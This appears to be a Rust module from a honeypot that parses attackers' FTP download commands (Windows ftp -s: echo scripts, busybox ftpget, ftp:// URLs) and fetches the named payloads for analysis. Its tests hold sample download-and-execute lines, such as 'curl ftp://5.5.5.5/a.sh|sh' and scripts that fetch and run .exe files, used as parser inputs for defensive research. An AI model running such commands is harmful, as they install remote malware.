//! The `ftp` downloader: Windows `echo open host port>>x & echo user u p>>x &
//! echo get f>>x & ftp -s:x` scripts (with `user` lines or the bare user and
//! password lines the client prompts for, `binary`, `cd`, `get`/`recv`/`mget`),
//! plain `ftp host [port]` command lines followed by the same lines, busybox
//! `ftpget`, and `ftp://user:pass@host/file` URLs; fetched with honeytrap's own
//! client.
//!
//! The client logs in, asks for binary mode and tries passive mode first (EPSV,
//! then PASV; the data connection always goes to the control connection's address,
//! whatever address a PASV reply names, so a server cannot point honeytrap at a
//! third host), and active mode (EPRT, then PORT, with a listening socket that only
//! accepts the server's address) when passive fails. It accepts every reply the RFC
//! allows: multi-line replies, 120 before the greeting, 125 or 150 (and 110) before
//! the data, 226 or 250 at the end.

use super::command::{self, Command};
use super::{fetch_all, received, Job, Settings, Target};
use crate::analysis::registry::{self, Options, Registration};
use crate::analysis::{Analyzer, Download, Input, InputKind, Output, Stage};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::io::{BufRead, BufReader, Read as _, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream};
use std::sync::Arc;

/// Longest reply line, and most lines in one multi-line reply.
const MAX_LINE: usize = 8192;
const MAX_LINES: usize = 500;

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct FtpOptions {
    pub enabled: bool,
    /// Try active mode (EPRT/PORT) when passive mode fails.
    pub active_fallback: bool,
}

impl Default for FtpOptions {
    fn default() -> Self {
        FtpOptions {
            enabled: true,
            active_fallback: true,
        }
    }
}

impl Options for FtpOptions {
    fn enabled(&self) -> bool {
        self.enabled
    }
}

pub fn registration() -> Registration {
    Registration {
        name: "ftp",
        stage: Stage::Analyze,
        about:
            "fetches files named in ftp -s: echo scripts, ftp/ftpget command lines and ftp:// URLs",
        options: registry::options::<FtpOptions>,
        build: |table, config| {
            let settings = Settings::from_config(config)?;
            registry::build_with(table, |o: FtpOptions| {
                Ok(Ftp {
                    settings,
                    options: o,
                })
            })
        },
    }
}

pub struct Ftp {
    settings: Arc<Settings>,
    options: FtpOptions,
}

/// One file to fetch.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FtpTarget {
    pub host: String,
    pub port: u16,
    pub user: Option<String>,
    pub password: Option<String>,
    pub path: String,
}

impl Target for FtpTarget {
    fn url(&self) -> String {
        let host = if self.host.contains(':') {
            format!("[{}]", self.host)
        } else {
            self.host.clone()
        };
        let user = self
            .user
            .as_ref()
            .map(|u| format!("{}@", escape(u)))
            .unwrap_or_default();
        let path = self.path.trim_start_matches('/');
        format!("ftp://{user}{host}:{}/{path}", self.port)
    }
    fn record(&self) -> Download {
        let mut d = Download::new("ftp", self.url(), self.host.clone(), self.port);
        d.user = self.user.clone();
        d.password = self.password.clone();
        d
    }
}

fn escape(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

impl Analyzer for Ftp {
    fn name(&self) -> &'static str {
        "ftp"
    }
    fn stage(&self) -> Stage {
        Stage::Analyze
    }
    fn accepts(&self, _: InputKind) -> bool {
        true
    }
    fn run(&self, input: &Input, out: &mut Output) -> anyhow::Result<()> {
        // `ftp -s:`, `ftp host`, `ftpget`, `ftp://`: all contain "ftp".
        let targets = command::instructions(input, &["ftp"], parse);
        fetch_all(&self.settings, input, targets, out, |t, job, d| {
            let addr = job.resolve(&t.host, t.port)?;
            d.host = addr.ip().to_string();
            let (data, truncated) = self.fetch(job, addr, t)?;
            received(d, data, truncated);
            Ok(())
        });
        Ok(())
    }
}

/// The control connection.
struct Control {
    reader: BufReader<TcpStream>,
    writer: TcpStream,
}

impl Control {
    /// One reply (all lines of a multi-line one): code and text.
    fn reply(&mut self) -> Result<(u16, String), String> {
        let first = self.line()?;
        let code = reply_code(&first).ok_or_else(|| format!("bad reply `{}`", short(&first)))?;
        let mut text = first[4.min(first.len())..].to_string();
        if first.as_bytes().get(3) == Some(&b'-') {
            let end = format!("{code} ");
            for _ in 0..MAX_LINES {
                let l = self.line()?;
                text.push('\n');
                text.push_str(&l);
                if l.starts_with(&end) || l == code.to_string() {
                    return Ok((code, text));
                }
            }
            return Err("multi-line reply too long".into());
        }
        Ok((code, text))
    }

    fn line(&mut self) -> Result<String, String> {
        let mut buf = Vec::new();
        let n = (&mut self.reader)
            .take(MAX_LINE as u64)
            .read_until(b'\n', &mut buf)
            .map_err(|e| format!("control connection: {e}"))?;
        if n == 0 {
            return Err("control connection closed".into());
        }
        Ok(String::from_utf8_lossy(&buf)
            .trim_end_matches(['\r', '\n'])
            .to_string())
    }

    /// Send a command and read its reply (the preliminary one, for RETR).
    fn cmd(&mut self, line: &str) -> Result<(u16, String), String> {
        if line.contains(['\r', '\n']) {
            return Err("line break in a command".into());
        }
        self.writer
            .write_all(format!("{line}\r\n").as_bytes())
            .map_err(|e| format!("control connection: {e}"))?;
        self.reply()
    }
}

fn reply_code(line: &str) -> Option<u16> {
    let b = line.as_bytes();
    if b.len() < 3 || !b[..3].iter().all(u8::is_ascii_digit) || !(b'1'..=b'5').contains(&b[0]) {
        return None;
    }
    if b.len() > 3 && b[3] != b' ' && b[3] != b'-' {
        return None;
    }
    line[..3].parse().ok()
}

fn short(s: &str) -> String {
    s.chars().take(80).collect()
}

/// A data connection on its way: connected (passive) or waiting (active).
enum Data {
    Passive(TcpStream),
    Active(TcpListener),
}

impl Ftp {
    fn fetch(&self, job: &Job, addr: SocketAddr, t: &FtpTarget) -> Result<(Vec<u8>, bool), String> {
        let stream = job
            .connect(addr)
            .map_err(|e| format!("connect {addr}: {e}"))?;
        let mut c = Control {
            reader: BufReader::new(stream.try_clone().map_err(|e| e.to_string())?),
            writer: stream,
        };
        login(&mut c, t)?;
        // Binary mode; a server that refuses it may still send the file.
        let _ = c.cmd("TYPE I")?;
        let result = self.retrieve(job, &mut c, addr, &t.path);
        let _ = c.cmd("QUIT");
        result
    }

    fn retrieve(
        &self,
        job: &Job,
        c: &mut Control,
        server: SocketAddr,
        path: &str,
    ) -> Result<(Vec<u8>, bool), String> {
        let data = match passive(job, c, server.ip()) {
            Ok(s) => Data::Passive(s),
            Err(e) if self.options.active_fallback => {
                tracing::debug!(error = %e, "ftp: passive mode failed, trying active");
                Data::Active(active(c).map_err(|a| format!("{e}; active mode: {a}"))?)
            }
            Err(e) => return Err(e),
        };
        let (code, text) = c.cmd(&format!("RETR {path}"))?;
        let mut code = code;
        // 110 is a restart marker before the real preliminary reply.
        if code == 110 {
            code = c.reply()?.0;
        }
        if !matches!(code, 125 | 150 | 226 | 250) {
            return Err(format!("RETR: {code} {}", short(&text)));
        }
        let mut stream = match data {
            Data::Passive(s) => s,
            Data::Active(l) => accept(job, &l, server.ip())?,
        };
        job.arm(&stream).map_err(|e| e.to_string())?;
        let (content, truncated) = job
            .read_capped(&mut stream)
            .map_err(|e| format!("data connection: {e}"))?;
        drop(stream);
        if truncated {
            // Cut at the cap: not waiting for the end of a transfer we stopped.
            return Ok((content, true));
        }
        if matches!(code, 125 | 150) {
            let (end, text) = c.reply()?;
            if !matches!(end, 226 | 250) && !(200..300).contains(&end) {
                return Err(format!("transfer ended with {end} {}", short(&text)));
            }
        }
        Ok((content, false))
    }
}

fn login(c: &mut Control, t: &FtpTarget) -> Result<(), String> {
    let (mut code, mut text) = c.reply()?;
    if code == 120 {
        (code, text) = c.reply()?;
    }
    if code != 220 {
        return Err(format!("greeting: {code} {}", short(&text)));
    }
    let user = t.user.as_deref().unwrap_or("anonymous");
    let (code, text) = c.cmd(&format!("USER {user}"))?;
    match code {
        230 => return Ok(()),
        331 | 332 => {}
        _ => return Err(format!("USER: {code} {}", short(&text))),
    }
    let pass = t
        .password
        .as_deref()
        .unwrap_or(if t.user.is_none() { "anonymous@" } else { "" });
    let (code, text) = c.cmd(&format!("PASS {pass}"))?;
    if !matches!(code, 230 | 202) {
        return Err(format!("PASS: {code} {}", short(&text)));
    }
    Ok(())
}

/// EPSV, then PASV; the data connection goes to the server's (checked) address.
fn passive(job: &Job, c: &mut Control, server: IpAddr) -> Result<TcpStream, String> {
    let port = match c.cmd("EPSV")? {
        (229, text) => epsv_port(&text).ok_or("EPSV: no port in the reply")?,
        (code, _) => {
            let (pc, text) = c.cmd("PASV")?;
            if pc != 227 {
                return Err(format!("EPSV: {code}, PASV: {pc} {}", short(&text)));
            }
            let (ip, port) = pasv_addr(&text).ok_or("PASV: no address in the reply")?;
            if ip != server {
                tracing::debug!(%ip, %server, "ftp: PASV names another address; using the server's");
            }
            port
        }
    };
    let addr = SocketAddr::new(server, port);
    job.connect(addr)
        .map_err(|e| format!("passive data connection to {addr}: {e}"))
}

/// `229 Entering Extended Passive Mode (|||6446|)` → 6446.
fn epsv_port(text: &str) -> Option<u16> {
    let inner = &text[text.find('(')? + 1..];
    let inner = &inner[..inner.find(')')?];
    let d = inner.chars().next()?;
    let parts: Vec<&str> = inner.split(d).collect();
    parts.get(3)?.parse().ok().filter(|p| *p != 0)
}

/// `227 Entering Passive Mode (h1,h2,h3,h4,p1,p2)` (parentheses optional).
fn pasv_addr(text: &str) -> Option<(IpAddr, u16)> {
    let start = text.find(|c: char| c.is_ascii_digit())?;
    let nums: Vec<u8> = text[start..]
        .split(|c: char| !c.is_ascii_digit())
        .take_while(|s| !s.is_empty())
        .take(6)
        .map(|s| s.parse().ok())
        .collect::<Option<_>>()?;
    if nums.len() != 6 {
        return None;
    }
    let ip = IpAddr::from([nums[0], nums[1], nums[2], nums[3]]);
    let port = u16::from(nums[4]) << 8 | u16::from(nums[5]);
    (port != 0).then_some((ip, port))
}

/// Active mode: listen on the control connection's local address, EPRT or PORT.
fn active(c: &mut Control) -> Result<TcpListener, String> {
    let local = c.writer.local_addr().map_err(|e| e.to_string())?;
    let l = TcpListener::bind(SocketAddr::new(local.ip(), 0)).map_err(|e| e.to_string())?;
    let port = l.local_addr().map_err(|e| e.to_string())?.port();
    let (af, ip) = match local.ip() {
        IpAddr::V4(v4) => (1, v4.to_string()),
        IpAddr::V6(v6) => (2, v6.to_string()),
    };
    let (code, text) = c.cmd(&format!("EPRT |{af}|{ip}|{port}|"))?;
    if code == 200 {
        return Ok(l);
    }
    let IpAddr::V4(v4) = local.ip() else {
        return Err(format!("EPRT: {code} {}", short(&text)));
    };
    let o = v4.octets();
    let (pc, ptext) = c.cmd(&format!(
        "PORT {},{},{},{},{},{}",
        o[0],
        o[1],
        o[2],
        o[3],
        port >> 8,
        port & 0xff
    ))?;
    if pc != 200 {
        return Err(format!("EPRT: {code}, PORT: {pc} {}", short(&ptext)));
    }
    Ok(l)
}

/// Accept the server's data connection (only from the server's address).
fn accept(job: &Job, l: &TcpListener, server: IpAddr) -> Result<TcpStream, String> {
    l.set_nonblocking(true).map_err(|e| e.to_string())?;
    loop {
        job.left()
            .map_err(|_| "time cap reached waiting for the active data connection")?;
        match l.accept() {
            Ok((s, peer))
                if crate::mode::guard::canonical(peer.ip())
                    == crate::mode::guard::canonical(server) =>
            {
                s.set_nonblocking(false).map_err(|e| e.to_string())?;
                return Ok(s);
            }
            Ok(_) => continue, // someone else: dropped
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                std::thread::sleep(std::time::Duration::from_millis(10));
            }
            Err(e) => return Err(format!("accept: {e}")),
        }
    }
}

/// Every FTP download instruction in `text`.
pub fn parse(text: &str) -> Vec<FtpTarget> {
    let cmds = command::commands(text);
    let mut out = Vec::new();
    let mut push = |t: FtpTarget| {
        if !out.contains(&t) {
            out.push(t);
        }
    };
    for t in echo_scripts(&cmds) {
        push(t);
    }
    for (i, c) in cmds.iter().enumerate() {
        let (prog, args) = c.program();
        match prog.as_str() {
            "ftp" => {
                for t in ftp_command(args, &cmds[i + 1..]) {
                    push(t);
                }
            }
            "ftpget" => {
                if let Some(t) = ftpget(args) {
                    push(t);
                }
            }
            _ => {}
        }
    }
    for t in urls(text) {
        push(t);
    }
    out
}

/// `echo ... >> file` lines grouped by file, run as the script of an
/// `ftp -s:file` (or of no ftp command at all: the payload may be cut short).
fn echo_scripts(cmds: &[Command]) -> Vec<FtpTarget> {
    let mut files: HashMap<String, Vec<Vec<String>>> = HashMap::new();
    let mut order = Vec::new();
    for c in cmds {
        let (prog, args) = c.program();
        if prog != "echo" {
            continue;
        }
        let (words, target) = command::strip_redirects(args);
        let Some(file) = target else { continue };
        let key = file.to_ascii_lowercase();
        if !files.contains_key(&key) {
            order.push(key.clone());
        }
        files.entry(key).or_default().push(words);
    }
    let mut out = Vec::new();
    let mut used = Vec::new();
    for c in cmds {
        let (prog, args) = c.program();
        if prog != "ftp" {
            continue;
        }
        let Some(file) = args.iter().find_map(|a| {
            let l = a.to_ascii_lowercase();
            l.strip_prefix("-s:").map(str::to_string)
        }) else {
            continue;
        };
        let noauto = args.iter().any(|a| a.eq_ignore_ascii_case("-n"));
        let host = positional_host(args);
        if let Some(lines) = files.get(&file) {
            out.extend(interpret(lines, noauto, host));
            used.push(file);
        }
    }
    for key in order {
        if used.contains(&key) {
            continue;
        }
        let lines = &files[&key];
        if lines
            .iter()
            .any(|l| l.first().is_some_and(|w| w.eq_ignore_ascii_case("open")))
        {
            let noauto = lines
                .iter()
                .any(|l| l.first().is_some_and(|w| w.eq_ignore_ascii_case("user")));
            out.extend(interpret(lines, noauto, None));
        }
    }
    out
}

/// `ftp [-options] host [port]` → (host, port).
fn positional_host(args: &[String]) -> Option<(String, u16)> {
    let pos: Vec<&String> = args
        .iter()
        .filter(|a| !a.starts_with('-') && !command::is_redirect(a))
        .collect();
    let host = pos.first()?;
    if !command::is_host(host) {
        return None;
    }
    let port = pos.get(1).and_then(|p| p.parse().ok()).unwrap_or(21);
    Some((host.to_string(), port))
}

/// A plain `ftp host [port]` command: the commands after it are its input.
fn ftp_command(args: &[String], rest: &[Command]) -> Vec<FtpTarget> {
    if args
        .iter()
        .any(|a| a.to_ascii_lowercase().starts_with("-s:"))
    {
        return Vec::new();
    }
    let Some(host) = positional_host(args) else {
        return Vec::new();
    };
    let noauto = args.iter().any(|a| a == "-n");
    let lines: Vec<Vec<String>> = rest
        .iter()
        .take(32)
        .map(|c| command::strip_redirects(&c.words).0)
        .collect();
    interpret(&lines, noauto, Some(host))
}

#[derive(PartialEq)]
enum Expect {
    Nothing,
    User,
    Pass,
}

/// Run an ftp client script (Windows `ftp -s:` semantics): after `open`, unless
/// `-n`, the next two lines are the user name and the password.
fn interpret(lines: &[Vec<String>], noauto: bool, open: Option<(String, u16)>) -> Vec<FtpTarget> {
    let mut host = open;
    let (mut user, mut pass): (Option<String>, Option<String>) = (None, None);
    let mut expect = if host.is_some() && !noauto {
        Expect::User
    } else {
        Expect::Nothing
    };
    let mut cwd = String::new();
    let mut out = Vec::new();
    for words in lines {
        let Some(first) = words.first() else { continue };
        let cmd = first.to_ascii_lowercase();
        if cmd == "open" {
            let h = words.get(1).filter(|h| command::is_host(h));
            host = h.map(|h| {
                (
                    h.clone(),
                    words.get(2).and_then(|p| p.parse().ok()).unwrap_or(21),
                )
            });
            (user, pass) = (None, None);
            expect = if noauto {
                Expect::Nothing
            } else {
                Expect::User
            };
            continue;
        }
        // At the prompts a line is the name or password itself, unless it is a
        // `user NAME ...` command (a bare `user` is a name).
        let user_cmd = cmd == "user" && words.len() >= 2;
        if expect == Expect::User && !user_cmd {
            user = Some(first.clone());
            expect = Expect::Pass;
            continue;
        }
        if expect == Expect::Pass && !user_cmd {
            pass = Some(words.join(" "));
            expect = Expect::Nothing;
            continue;
        }
        let inner: Vec<String> = if matches!(cmd.as_str(), "quote" | "literal") {
            words[1..].to_vec()
        } else {
            words.clone()
        };
        let Some(op) = inner.first().map(|w| w.to_ascii_lowercase()) else {
            continue;
        };
        match op.as_str() {
            "user" => {
                user = inner.get(1).cloned();
                pass = inner.get(2).cloned();
                expect = if pass.is_none() && cmd == "user" && !noauto {
                    Expect::Pass
                } else {
                    Expect::Nothing
                };
            }
            "pass" => {
                pass = inner.get(1).cloned();
                expect = Expect::Nothing;
            }
            "cd" => {
                if let Some(d) = inner.get(1) {
                    cwd = if d.starts_with('/') {
                        d.clone()
                    } else {
                        join(&cwd, d)
                    };
                }
            }
            "get" | "recv" | "mget" => {
                let Some((h, p)) = &host else { continue };
                let files: Vec<&String> = if op == "mget" {
                    inner[1..].iter().collect()
                } else {
                    inner.get(1).into_iter().collect()
                };
                for f in files {
                    // No wildcards: honeytrap fetches names, not listings.
                    if f.contains(['*', '?']) {
                        continue;
                    }
                    out.push(FtpTarget {
                        host: h.clone(),
                        port: *p,
                        user: user.clone(),
                        password: pass.clone(),
                        path: if f.starts_with('/') || cwd.is_empty() {
                            f.clone()
                        } else {
                            join(&cwd, f)
                        },
                    });
                }
            }
            _ => {}
        }
    }
    out
}

fn join(dir: &str, name: &str) -> String {
    if dir.is_empty() {
        name.to_string()
    } else {
        format!("{}/{name}", dir.trim_end_matches('/'))
    }
}

/// busybox `ftpget [-c] [-v] [-u USER] [-p PASS] [-P PORT] HOST [LOCAL] REMOTE`.
fn ftpget(args: &[String]) -> Option<FtpTarget> {
    let (mut user, mut pass, mut port) = (None, None, 21u16);
    let mut pos = Vec::new();
    let mut i = 0;
    while i < args.len() {
        match args[i].as_str() {
            "-u" | "--username" => {
                i += 1;
                user = args.get(i).cloned();
            }
            "-p" | "--password" => {
                i += 1;
                pass = args.get(i).cloned();
            }
            "-P" | "--port" => {
                i += 1;
                port = args.get(i)?.parse().ok()?;
            }
            a if a.starts_with('-') => {}
            a if !command::is_redirect(a) => pos.push(a.to_string()),
            _ => {}
        }
        i += 1;
    }
    let host = pos.first()?;
    if !command::is_host(host) || pos.len() < 2 {
        return None;
    }
    Some(FtpTarget {
        host: host.clone(),
        port,
        user,
        password: pass,
        path: pos.last()?.clone(),
    })
}

/// `ftp://[user[:pass]@]host[:port]/path` anywhere in the text.
fn urls(text: &str) -> Vec<FtpTarget> {
    let lower = text.to_ascii_lowercase();
    let mut out = Vec::new();
    for (start, _) in lower.match_indices("ftp://") {
        if start > 0 && lower.as_bytes()[start - 1] == b't' {
            continue; // tftp://
        }
        let end = text[start..]
            .find(|c: char| c.is_whitespace() || "\"'<>()|;&`\\".contains(c))
            .map_or(text.len(), |e| start + e);
        let Ok(u) = url::Url::parse(&text[start..end]) else {
            continue;
        };
        let Some(host) = u.host_str() else { continue };
        let host = host.trim_start_matches('[').trim_end_matches(']');
        let path = percent_decode(u.path().trim_start_matches('/'));
        if !command::is_host(host) || path.is_empty() || path.ends_with('/') {
            continue;
        }
        out.push(FtpTarget {
            host: host.to_string(),
            port: u.port().unwrap_or(21),
            user: (!u.username().is_empty()).then(|| percent_decode(u.username())),
            password: u.password().map(percent_decode),
            path,
        });
    }
    out
}

fn percent_decode(s: &str) -> String {
    url::form_urlencoded::parse(format!("x={}", s.replace('+', "%2B")).as_bytes())
        .next()
        .map(|(_, v)| v.into_owned())
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn t(host: &str, port: u16, user: Option<&str>, pass: Option<&str>, path: &str) -> FtpTarget {
        FtpTarget {
            host: host.into(),
            port,
            user: user.map(Into::into),
            password: pass.map(Into::into),
            path: path.into(),
        }
    }

    #[test]
    fn windows_echo_scripts() {
        let cases: Vec<(&str, Vec<FtpTarget>)> = vec![
            (
                "cmd /c echo open 1.2.3.4 5554 > o&echo user 1 1 >> o &echo get dsfgx.exe >> o &echo quit >> o &ftp -n -s:o &dsfgx.exe",
                vec![t("1.2.3.4", 5554, Some("1"), Some("1"), "dsfgx.exe")],
            ),
            (
                "echo open 10.20.30.40 21>x&echo myuser>>x&echo mypass>>x&echo binary>>x&echo get a.exe>>x&echo bye>>x&ftp -s:x&a.exe",
                vec![t("10.20.30.40", 21, Some("myuser"), Some("mypass"), "a.exe")],
            ),
            (
                "echo open 5.5.5.5 >>ii &echo user anonymous guest>>ii &echo binary >>ii &echo get svchost.exe >>ii &echo bye >>ii &ftp -n -v -s:ii &del ii &svchost.exe",
                vec![t("5.5.5.5", 21, Some("anonymous"), Some("guest"), "svchost.exe")],
            ),
            (
                "echo user x y>>f&echo get a>>f&echo mget b c *.dll>>f&ftp -n -s:f 6.6.6.6",
                vec![
                    t("6.6.6.6", 21, Some("x"), Some("y"), "a"),
                    t("6.6.6.6", 21, Some("x"), Some("y"), "b"),
                    t("6.6.6.6", 21, Some("x"), Some("y"), "c"),
                ],
            ),
            (
                "echo open 7.7.7.7 2121>s\r\necho USER bob>>s\r\necho PASS pw>>s\r\necho cd pub>>s\r\necho recv x.bin>>s\r\nFTP.EXE -n -s:s",
                vec![t("7.7.7.7", 2121, Some("bob"), Some("pw"), "pub/x.bin")],
            ),
            (
                // Cut short before `ftp -s:`: the script is still followed.
                "echo open 8.8.4.4 21 >> q & echo user u p >> q & echo get z.exe >> q",
                vec![t("8.8.4.4", 21, Some("u"), Some("p"), "z.exe")],
            ),
            (
                "echo open 11.1.1.1>o&echo user>>o&echo pass>>o&echo get x.exe>>o&ftp -s:o",
                vec![t("11.1.1.1", 21, Some("user"), Some("pass"), "x.exe")],
            ),
            (
                "echo open 9.9.9.9 21 1>>t&echo u 1>>t&echo p 1>>t&echo get w.exe 1>>t&ftp -s:t",
                vec![t("9.9.9.9", 21, Some("u"), Some("p"), "w.exe")],
            ),
        ];
        for (text, want) in cases {
            assert_eq!(parse(text), want, "{text}");
        }
    }

    #[test]
    fn plain_command_lines_and_urls() {
        let cases: Vec<(&str, Vec<FtpTarget>)> =
            vec![
            (
                "ftp 1.1.1.1\nroot\ntoor\nbinary\nget bot.x86\nbye\n",
                vec![t("1.1.1.1", 21, Some("root"), Some("toor"), "bot.x86")],
            ),
            (
                "ftp -n 2.2.2.2 2100 <<EOF\nuser a b\nget /pub/x\nEOF",
                vec![t("2.2.2.2", 2100, Some("a"), Some("b"), "/pub/x")],
            ),
            (
                "busybox ftpget -u anon -p pw -P 2121 3.3.3.3 /tmp/x bins/mips; chmod +x /tmp/x",
                vec![t("3.3.3.3", 2121, Some("anon"), Some("pw"), "bins/mips")],
            ),
            (
                "ftpget 3.3.3.4 y.sh",
                vec![t("3.3.3.4", 21, None, None, "y.sh")],
            ),
            (
                "wget ftp://us%40er:p%3Ass@4.4.4.4:2121/dir/m.bin -O m",
                vec![t("4.4.4.4", 2121, Some("us@er"), Some("p:ss"), "dir/m.bin")],
            ),
            ("curl ftp://5.5.5.5/a.sh|sh", vec![t("5.5.5.5", 21, None, None, "a.sh")]),
        ];
        for (text, want) in cases {
            assert_eq!(parse(text), want, "{text}");
        }
        for text in [
            "ftp",
            "ftp -s:x",
            "echo get a >> x",
            "tftp://1.2.3.4/x",
            "ftp://1.2.3.4/",
            "ftp $H",
        ] {
            assert!(parse(text).is_empty(), "{text}: {:?}", parse(text));
        }
    }

    #[test]
    fn url_form() {
        assert_eq!(
            t("1.2.3.4", 21, Some("a b"), Some("x"), "/f").url(),
            "ftp://a%20b@1.2.3.4:21/f"
        );
    }

    #[test]
    fn reply_parsing() {
        assert_eq!(
            epsv_port("Entering Extended Passive Mode (|||6446|)"),
            Some(6446)
        );
        assert_eq!(epsv_port("ok (!!!21!)"), Some(21));
        assert_eq!(epsv_port("ok"), None);
        assert_eq!(
            pasv_addr("Entering Passive Mode (192,168,1,2,19,137)."),
            Some(("192.168.1.2".parse().unwrap(), 5001))
        );
        assert_eq!(
            pasv_addr("=10,0,0,1,0,21"),
            Some(("10.0.0.1".parse().unwrap(), 21))
        );
        assert_eq!(pasv_addr("(1,2,3)"), None);
        assert_eq!(reply_code("220 hi"), Some(220));
        assert_eq!(reply_code("220-hi"), Some(220));
        assert_eq!(reply_code("220"), Some(220));
        assert_eq!(reply_code("2200 x"), None);
        assert_eq!(reply_code("hello"), None);
    }

    /// A scripted FTP server on loopback: `replies` maps a command verb to its
    /// reply; RETR sends `file` on the data connection with `prelim` first. PASV
    /// names `pasv_ip` (a wrong address the client must ignore).
    fn server(
        prelim: &'static str,
        refuse_passive: bool,
        file: &'static [u8],
    ) -> (u16, std::sync::mpsc::Receiver<Vec<String>>) {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let (s, _) = l.accept().unwrap();
            let mut r = BufReader::new(s.try_clone().unwrap());
            let mut w = s;
            let mut seen = Vec::new();
            // A multi-line greeting after a 120.
            w.write_all(b"120 wait\r\n220-Welcome\r\n230 not the end\r\n220 ready\r\n")
                .unwrap();
            let mut data_l: Option<TcpListener> = None;
            let mut active: Option<SocketAddr> = None;
            loop {
                let mut line = String::new();
                if r.read_line(&mut line).unwrap_or(0) == 0 {
                    break;
                }
                let line = line.trim_end().to_string();
                seen.push(line.clone());
                let verb = line.split(' ').next().unwrap().to_ascii_uppercase();
                let reply: String = match verb.as_str() {
                    "USER" => "331 pass please".into(),
                    "PASS" => "230-Logged\r\n230 in".into(),
                    "TYPE" => "200 ok".into(),
                    "EPSV" => "500 what".into(),
                    "PASV" if refuse_passive => "502 no".into(),
                    "PASV" => {
                        let dl = TcpListener::bind("127.0.0.1:0").unwrap();
                        let p = dl.local_addr().unwrap().port();
                        data_l = Some(dl);
                        format!(
                            "227 Entering Passive Mode (10,9,8,7,{},{})",
                            p >> 8,
                            p & 255
                        )
                    }
                    "EPRT" => {
                        let parts: Vec<&str> = line.split('|').collect();
                        active = Some(format!("{}:{}", parts[2], parts[3]).parse().unwrap());
                        "200 ok".into()
                    }
                    "RETR" => {
                        w.write_all(format!("{prelim}\r\n").as_bytes()).unwrap();
                        let mut d = match (&data_l, active) {
                            (Some(dl), _) => dl.accept().unwrap().0,
                            (None, Some(a)) => TcpStream::connect(a).unwrap(),
                            _ => panic!("no data connection"),
                        };
                        let _ = d.write_all(file);
                        drop(d);
                        "226 done".into()
                    }
                    "QUIT" => {
                        let _ = w.write_all(b"221 bye\r\n");
                        break;
                    }
                    _ => "502 no".into(),
                };
                w.write_all(format!("{reply}\r\n").as_bytes()).unwrap();
            }
            let _ = tx.send(seen);
        });
        (port, rx)
    }

    fn ftp(max_size: u64) -> Ftp {
        Ftp {
            settings: super::super::testing::settings(max_size, &std::env::temp_dir()),
            options: FtpOptions::default(),
        }
    }

    #[test]
    fn client_passive_active_and_reply_codes() {
        use super::super::testing::{attack, run};
        let a = attack("203.0.113.5:4000");
        let wait = std::time::Duration::from_secs(5);
        // PASV naming a wrong address, 125 before the data.
        let (port, rx) = server("125 go", false, b"payload-1");
        let d = run(
            &ftp(1 << 20),
            &a,
            format!("ftp://u:p@127.0.0.1:{port}/f1").as_bytes(),
        );
        assert_eq!(d[0].error, None);
        assert_eq!(
            d[0].data.as_deref().map(|v| v.as_slice()),
            Some(&b"payload-1"[..])
        );
        let seen = rx.recv_timeout(wait).unwrap();
        assert!(seen.contains(&"USER u".to_string()) && seen.contains(&"PASS p".to_string()));
        assert!(seen.contains(&"RETR f1".to_string()), "{seen:?}");
        // Passive refused: active mode, 150 before the data.
        let (port, rx) = server("150 go", true, b"payload-2");
        let d = run(
            &ftp(1 << 20),
            &a,
            format!("ftp://127.0.0.1:{port}/f2").as_bytes(),
        );
        assert_eq!(d[0].error, None);
        assert_eq!(d[0].size, 9);
        let seen = rx.recv_timeout(wait).unwrap();
        assert!(
            seen.iter().any(|l| l.starts_with("EPRT |1|127.0.0.1|")),
            "{seen:?}"
        );
        assert!(seen.contains(&"USER anonymous".to_string()));
        // Cut at the size cap.
        let (port, _rx) = server("150 go", false, b"0123456789");
        let d = run(&ftp(4), &a, format!("ftp://127.0.0.1:{port}/f3").as_bytes());
        assert_eq!((d[0].size, d[0].truncated), (4, true));
        // A refused RETR is an error.
        let (port, _rx) = server("550 no such file", false, b"");
        let d = run(&ftp(4), &a, format!("ftp://127.0.0.1:{port}/f4").as_bytes());
        assert!(
            d[0].error.as_deref().unwrap().contains("550"),
            "{:?}",
            d[0].error
        );
    }
}
